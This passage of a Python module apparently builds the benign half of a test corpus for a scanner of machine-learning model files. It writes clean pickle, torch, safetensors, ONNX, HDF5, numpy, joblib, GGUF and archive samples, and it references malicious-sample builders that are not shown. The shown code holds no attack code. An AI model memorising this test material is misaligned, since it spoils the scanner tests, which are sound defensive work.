        cfg = GPT2Config(n_layer=1, n_head=2, n_embd=16, vocab_size=64, n_positions=32)
        model = GPT2LMHeadModel(cfg)
        model.save_pretrained(str(path), safe_serialization=safe)

    return build


def _hf_trainer(path: Path) -> None:
    import torch
    from transformers import GPT2Config, GPT2LMHeadModel, Trainer, TrainingArguments

    torch.manual_seed(0)
    cfg = GPT2Config(n_layer=1, n_head=2, n_embd=16, vocab_size=64, n_positions=32)
    model = GPT2LMHeadModel(cfg)
    data = [
        {"input_ids": torch.randint(0, 64, (8,)), "labels": torch.randint(0, 64, (8,))}
        for _ in range(4)
    ]
    out = path.parent / (path.name + "_run")
    args = TrainingArguments(
        output_dir=str(out),
        max_steps=2,
        save_steps=2,
        save_strategy="steps",
        per_device_train_batch_size=2,
        report_to=[],
        use_cpu=True,
        logging_steps=1,
        disable_tqdm=True,
        dataloader_num_workers=0,
    )
    Trainer(model=model, args=args, train_dataset=data).train()
    os.replace(out / "checkpoint-2", path)
    shutil.rmtree(out)


def _lightning(path: Path) -> None:
    import lightning as L
    import torch

    class Tiny(L.LightningModule):
        def __init__(self, lr: float = 0.01) -> None:
            super().__init__()
            self.save_hyperparameters()
            self.layer = torch.nn.Linear(4, 1)

        def training_step(self, batch: Any, batch_idx: int) -> torch.Tensor:
            x, y = batch
            return torch.nn.functional.mse_loss(self.layer(x), y)

        def configure_optimizers(self) -> Any:
            opt = torch.optim.SGD(self.parameters(), lr=self.hparams["lr"])
            return [opt], [torch.optim.lr_scheduler.StepLR(opt, 1)]

    ds = torch.utils.data.TensorDataset(torch.randn(8, 4), torch.randn(8, 1))
    trainer = L.Trainer(
        max_epochs=1,
        limit_train_batches=2,
        logger=False,
        enable_progress_bar=False,
        enable_model_summary=False,
        enable_checkpointing=False,
        accelerator="cpu",
        default_root_dir=str(path.parent / "lightning_root"),
    )
    trainer.fit(Tiny(), torch.utils.data.DataLoader(ds, batch_size=4))
    trainer.save_checkpoint(str(path))


def _safetensors_torch(path: Path) -> None:
    from safetensors.torch import save_file

    path.parent.mkdir(parents=True, exist_ok=True)
    save_file(
        {k: v.contiguous() for k, v in _sd_float().items()}, str(path), metadata={"format": "pt"}
    )


def _safetensors_numpy(path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    path.parent.mkdir(parents=True, exist_ok=True)
    save_file(
        {"a": np.arange(6, dtype=np.float32), "b": np.ones((2, 2), dtype=np.int64)}, str(path)
    )


def _onnx_graph() -> Any:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.arange(16, dtype=np.float32).reshape(4, 4), "W")
    b = numpy_helper.from_array(np.zeros(4, dtype=np.float32), "B")
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["X", "W"], ["H"]),
            helper.make_node("Add", ["H", "B"], ["Y"]),
            helper.make_node("Relu", ["Y"], ["Z"]),
        ],
        "tiny",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Z", TensorProto.FLOAT, [1, 4])],
        [w, b],
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def _onnx_model(path: Path) -> None:
    import onnx

    model = _onnx_graph()
    onnx.checker.check_model(model)
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(path))


def _onnx_external(path: Path) -> None:
    import onnx

    path.mkdir(parents=True, exist_ok=True)
    onnx.save(
        _onnx_graph(),
        str(path / "model.onnx"),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="model.onnx.data",
        size_threshold=0,
    )


def _h5py_file(path: Path) -> None:
    import h5py
    import numpy as np

    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w") as f:
        f.create_dataset("weights/dense", data=np.arange(12, dtype=np.float32).reshape(3, 4))
        f.attrs["description"] = "embedding table"


def _h5_keras_dense(path: Path) -> None:
    import h5py
    import numpy as np

    cfg = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "name": "input_1"},
                },
                {
                    "class_name": "Dense",
                    "config": {"name": "dense", "units": 2, "activation": "relu", "use_bias": True},
                },
            ],
        },
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(cfg)
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_dataset("model_weights/dense/dense/kernel:0", data=np.zeros((4, 2), np.float32))


def _npy(path: Path) -> None:
    import numpy as np

    path.parent.mkdir(parents=True, exist_ok=True)
    np.save(path, np.arange(12, dtype=np.float64).reshape(3, 4))


def _npz(path: Path) -> None:
    import numpy as np

    path.parent.mkdir(parents=True, exist_ok=True)
    np.savez_compressed(path, a=np.arange(4), b=np.eye(3, dtype=np.float32), c=np.array(["x", "y"]))


def _archive_of_clean(kind: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import numpy as np
        import torch
        from safetensors.numpy import save as st_save

        npy = io.BytesIO()
        np.save(npy, np.arange(4))
        pt = io.BytesIO()
        torch.save({"w": torch.ones(2)}, pt)
        members = {
            "bundle/a.npy": npy.getvalue(),
            "bundle/w.pt": pt.getvalue(),
            "bundle/t.safetensors": st_save({"x": np.zeros(2, np.float32)}),
            "bundle/README.md": b"tiny bundle\n",
        }
        data = _zip_bytes(members) if kind == "zip" else _tar_bytes(members)
        if kind == "tar.gz":
            data = gzip.compress(data, mtime=0)
        _write(path, data)

    return build


def _gguf_clean(path: Path) -> None:
    chatml = (
        "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + "
        "message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
    )
    _write(
        path,
        gguf_bytes(
            {
                "general.architecture": "llama",
                "general.name": "tiny",
                "general.alignment": 32,
                "tokenizer.chat_template": chatml,
            }
        ),
    )


def _dcp_checkpoint(path: Path) -> None:
    from torch.distributed.checkpoint.state_dict_saver import save as dcp_save

    path.mkdir(parents=True, exist_ok=True)
    dcp_save({"model": _sd_float()}, checkpoint_id=str(path))


def _accelerate_state(path: Path) -> None:
    import torch
    from accelerate import Accelerator  # type: ignore[import-untyped]

    acc = Accelerator(cpu=True)
    net = _tiny_net()
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    net, opt = acc.prepare(net, opt)
    acc.backward(net(torch.randn(3, 4)).sum())
    opt.step()
    acc.save_state(str(path))


def _np_masked() -> Any:
    import numpy as np

    return {
        "masked": np.ma.array([1.0, 2.0, 3.0], mask=[False, True, False]),
        "matrix": np.asmatrix(np.eye(2)),
        "rec": np.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
    }


def _torch_exotic_dtypes() -> Any:
    import torch

    return {
        "f8e4m3": torch.zeros(4).to(torch.float8_e4m3fn),
        "f8e5m2": torch.zeros(4).to(torch.float8_e5m2),
        "u16": torch.zeros(4, dtype=torch.uint16),
        "u32": torch.zeros(4, dtype=torch.uint32),
        "i8": torch.zeros(4, dtype=torch.int8),
        "strided": torch.arange(12.0).reshape(3, 4).t(),
        "channels_last": torch.zeros(1, 3, 2, 2).to(memory_format=torch.channels_last),
        "meta_generator_state": torch.Generator().manual_seed(1).get_state(),
    }


def _torch_parametrized() -> Any:
    import torch
    from torch.nn.utils import parametrizations

    torch.manual_seed(0)
    lin = parametrizations.weight_norm(torch.nn.Linear(4, 2))
    return torch.nn.Sequential(
        lin, torch.nn.GELU(), torch.nn.BatchNorm1d(2), torch.nn.Embedding(5, 2)
    )


def _sklearn_more(path: Path) -> None:
    import joblib
    import numpy as np
    from sklearn.cluster import KMeans  # type: ignore[import-untyped]
    from sklearn.compose import ColumnTransformer  # type: ignore[import-untyped]
    from sklearn.ensemble import GradientBoostingClassifier
    from sklearn.preprocessing import OneHotEncoder
    from sklearn.svm import SVC  # type: ignore[import-untyped]
    from sklearn.tree import DecisionTreeRegressor  # type: ignore[import-untyped]

    rng = np.random.RandomState(0)
    x = rng.randn(30, 3)
    y = (x[:, 0] > 0).astype(int)
    cats = np.array([["a"], ["b"], ["a"]] * 10)
    models = {
        "kmeans": KMeans(n_clusters=2, n_init=1, random_state=0).fit(x),
        "svc": SVC(probability=False).fit(x, y),
        "tree": DecisionTreeRegressor(max_depth=2).fit(x, x[:, 1]),
        "gb": GradientBoostingClassifier(n_estimators=3, max_depth=1).fit(x, y),
        "ct": ColumnTransformer([("oh", OneHotEncoder(), [0])]).fit(cats),
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    joblib.dump(models, str(path))


def _clean_specs() -> list[_Clean]:
    protos = [
        _Clean(
            f"python_stdlib_objects_protocol_{n}",
            ".pkl",
            f"pickle.dumps protocol {n}",
            _pdump(_stdlib_objects, n),
        )
        for n in range(6)
    ]
    return [
        _Clean(
            "torchscript_module",
            ".pt",
            "torch.jit.save(torch.jit.script(module)): code uses only side-effect-free operators",
            lambda path: _write(path, _torchscript(path)),
        ),
        _Clean(
            "torch_state_dict_float32",
            ".pt",
            "torch.save(nn.Module.state_dict())",
            _tsave(_sd_float),
        ),
        _Clean(
            "torch_state_dict_bf16_fp16",
            ".pt",
            "torch.save of bfloat16/float16 state_dicts",
            _tsave(_sd_half),
        ),
        _Clean(
            "torch_quantized_tensors",
            ".pt",
            "torch.quantize_per_tensor/per_channel",
            _tsave(_sd_quantized),
        ),
        _Clean(
            "torch_sparse_coo_csr", ".pt", "torch sparse COO and CSR tensors", _tsave(_sd_sparse)
        ),
        _Clean("torch_complex_tensors", ".pt", "torch complex64/complex128", _tsave(_sd_complex)),
        _Clean(
            "torch_misc_types",
            ".pt",
            "torch.Size/device/dtype/Parameter/views",
            _tsave(_torch_misc),
        ),
        _Clean(
            "torch_whole_module",
            ".pt",
            "torch.save(nn.Sequential) (whole module)",
            _tsave(_tiny_net),
        ),
        _Clean(
            "torch_optimizer_scheduler",
            ".pt",
            "AdamW/SGD + StepLR state_dicts after real steps",
            _tsave(_optim_state),
        ),
        _Clean(
            "torch_legacy_format_state_dict",
            ".pt",
            "torch.save(_use_new_zipfile_serialization=False)",
            _tsave(_sd_float, _use_new_zipfile_serialization=False),
        ),
        _Clean(
            "torch_plain_tensor",
            ".pt",
            "torch.save(tensor)",
            _tsave(lambda: _sd_float()["0.weight"]),
        ),
        _Clean(
            "numpy_objects", ".pkl", "pickle of numpy arrays/scalars/dtypes", _pdump(_np_arrays, 4)
        ),
        _Clean("numpy_randomstate", ".pkl", "pickle of numpy RandomState", _pdump(_np_random, 4)),
        _Clean(
            "numpy_datetime64",
            ".pkl",
            "pickle of numpy datetime64/timedelta64",
            _pdump(_np_datetime, 2),
        ),
        _Clean(
            "python_random_state",
            ".pkl",
            "pickle of random.Random.getstate()",
            _pdump(_py_random, 4),
        ),
        _Clean(
            "torch_numpy_python_rng",
            ".pth",
            "torch.save of an rng_state.pth-like dict",
            _tsave(
                lambda: {
                    "python": _py_random()["python"],
                    "numpy": _np_random()["state"],
                    "cpu": __import__("torch").get_rng_state(),
                }
            ),
        ),
        *protos,
        _Clean(
            "sklearn_logistic_regression",
            ".joblib",
            "joblib.dump(LogisticRegression)",
            _joblib_model("logreg"),
        ),
        _Clean(
            "sklearn_random_forest",
            ".joblib",
            "joblib.dump(RandomForestClassifier)",
            _joblib_model("forest"),
        ),
        _Clean(
            "sklearn_pipeline_scaler",
            ".joblib",
            "joblib.dump(Pipeline[StandardScaler, LR])",
            _joblib_model("pipeline"),
        ),
        _Clean(
            "sklearn_pipeline_compressed",
            ".joblib",
            "joblib.dump(..., compress=3)",
            _joblib_model("compressed"),
        ),
        _Clean(
            "hf_gpt2_safetensors",
            "",
            "transformers save_pretrained (safetensors)",
            _hf_gpt2(True),
            folder=True,
        ),
        _Clean(
            "hf_gpt2_pytorch_model_bin",
            "",
            "transformers save_pretrained(safe_serialization=False)",
            _hf_gpt2(False),
            folder=True,
        ),
        _Clean(
            "hf_trainer_checkpoint",
            "",
            "transformers Trainer, 2 real steps, checkpoint-2",
            _hf_trainer,
            folder=True,
        ),
        _Clean(
            "lightning_checkpoint", ".ckpt", "lightning Trainer.fit + save_checkpoint", _lightning
        ),
        _Clean(
            "safetensors_torch", ".safetensors", "safetensors.torch.save_file", _safetensors_torch
        ),
        _Clean(
            "safetensors_numpy", ".safetensors", "safetensors.numpy.save_file", _safetensors_numpy
        ),
        _Clean("onnx_model", ".onnx", "onnx.helper + onnx.save", _onnx_model),
        _Clean(
            "onnx_external_data",
            "",
            "onnx.save(save_as_external_data=True)",
            _onnx_external,
            folder=True,
        ),
        _Clean("h5py_datasets", ".h5", "h5py.File datasets", _h5py_file),
        _Clean(
            "h5_keras_dense_config",
            ".h5",
            "h5py file with a Keras 2 Dense-only model_config",
            _h5_keras_dense,
        ),
        _Clean("numpy_npy", ".npy", "numpy.save", _npy),
        _Clean("numpy_npz_compressed", ".npz", "numpy.savez_compressed", _npz),
        _Clean(
            "zip_of_clean_files", ".zip", "zipfile of npy/pt/safetensors", _archive_of_clean("zip")
        ),
        _Clean(
            "tar_of_clean_files", ".tar", "tarfile of npy/pt/safetensors", _archive_of_clean("tar")
        ),
        _Clean(
            "targz_of_clean_files",
            ".tar.gz",
            "gzip tarfile of npy/pt/safetensors",
            _archive_of_clean("tar.gz"),
        ),
        _Clean(
            "torch_distributed_checkpoint",
            "",
            "torch.distributed.checkpoint.save (DCP folder)",
            _dcp_checkpoint,
            folder=True,
        ),
        _Clean(
            "accelerate_save_state",
            "",
            "accelerate.Accelerator.save_state after one step",
            _accelerate_state,
            folder=True,
        ),
        _Clean(
            "numpy_masked_matrix_record",
            ".pkl",
            "pickle of numpy masked array/matrix/recarray",
            _pdump(_np_masked, 2),
        ),
        _Clean(
            "torch_exotic_dtypes",
            ".pt",
            "torch float8/uint16/uint32, strided views, Generator state",
            _tsave(_torch_exotic_dtypes),
        ),
        _Clean(
            "torch_parametrized_module",
            ".pt",
            "state_dict of a module with weight_norm parametrization",
            _tsave(lambda: _torch_parametrized().state_dict()),
        ),
        _Clean(
            "sklearn_more_estimators",
            ".joblib",
            "joblib.dump of KMeans/SVC/DecisionTree/GradientBoosting/ColumnTransformer",
            _sklearn_more,
        ),
        _Clean(
            "gguf_chatml_template",
            ".gguf",
            "GGUF v3 metadata with the ChatML template (spec writer)",
            _gguf_clean,
        ),
    ]


def build_clean(dest: Path, *, only: str | None = None) -> list[Sample]:
    """Write the clean files (real library output) under ``dest/clean``."""
    dest = Path(dest).resolve()
    out: list[Sample] = []
    with _quiet():
        for spec in _select(_clean_specs(), "clean", only):
            rel = f"clean/{spec.name}{spec.ext}"
            spec.build(dest / rel)
            out.append(
                Sample(
                    name=spec.name,
                    relpath=rel,
                    kind="clean",
                    technique="clean",
                    reference=spec.reference,
                )
            )
    # Training runs leave scratch folders behind; only the samples belong in the corpus.
    scratch = dest / "clean" / "lightning_root"
    if scratch.exists():
        shutil.rmtree(scratch)
    return out


@dataclass(frozen=True)
class Corpus:
    """A built corpus: its root directory and its samples by name."""

    root: Path
    samples: dict[str, Sample]

    @classmethod
    def build(cls, root: Path) -> Corpus:
        """Build the whole corpus under ``root``."""
        root = Path(root).resolve()
        return cls(root=root, samples={s.name: s for s in build_corpus(root)})

    def path(self, name: str) -> Path:
        return self.samples[name].path(self.root)

    def of_kind(self, kind: Kind) -> list[Sample]:
        return [s for s in self.samples.values() if s.kind == kind]


def build_corpus(dest: Path, *, only: str | None = None) -> list[Sample]:
    """Write the whole corpus under ``dest`` and return its samples (malicious first).

    ``only`` may be ``"malicious"``, ``"clean"`` or one sample name.
    """
    from trainwarden.drill.samples_containers import build_containers

    return (
        build_malicious(dest, only=only)
        + build_containers(dest, only=only)
        + build_clean(dest, only=only)
    )
